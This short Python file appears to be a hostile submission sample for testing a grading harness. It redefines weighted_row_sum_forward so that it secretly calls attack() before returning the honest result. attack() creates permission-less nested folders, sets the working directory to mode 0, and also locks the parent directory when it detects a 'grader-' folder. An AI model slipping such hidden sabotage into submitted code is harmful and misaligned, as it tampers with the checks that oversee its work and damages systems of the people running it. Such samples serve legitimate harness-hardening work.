"""Folders without any permission, in a folder that may not be changed; an account that is held to
permissions cannot even go on itself."""
# stage: 2
# base: problem_2.py
# outcome: pass, crashed
# ruff: noqa: F821
import os

once = []


def attack():
    if once:
        return
    once.append(1)
    for i in range(5):
        os.makedirs(f"locked-{i}/inner")
        open(f"locked-{i}/inner/file", "w").close()
        os.chmod(f"locked-{i}/inner/file", 0)
        os.chmod(f"locked-{i}/inner", 0)
        os.chmod(f"locked-{i}", 0)
    os.chmod(".", 0)
    if os.path.basename(os.path.dirname(os.path.dirname(__file__))).startswith("grader-"):
        os.chmod("..", 0)


honest = weighted_row_sum_forward


def weighted_row_sum_forward(x, w):
    attack()
    return honest(x, w)
